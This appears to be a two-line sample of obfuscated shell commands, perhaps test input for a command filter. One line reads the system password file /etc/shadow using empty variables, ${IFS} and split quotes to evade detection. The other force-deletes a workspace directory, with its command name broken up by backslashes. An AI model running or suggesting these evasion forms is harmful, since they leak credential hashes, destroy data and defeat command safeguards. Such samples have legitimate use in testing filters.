c${u}a${u}t${IFS}/etc/sh''adow
r\m -r\f /work'space'
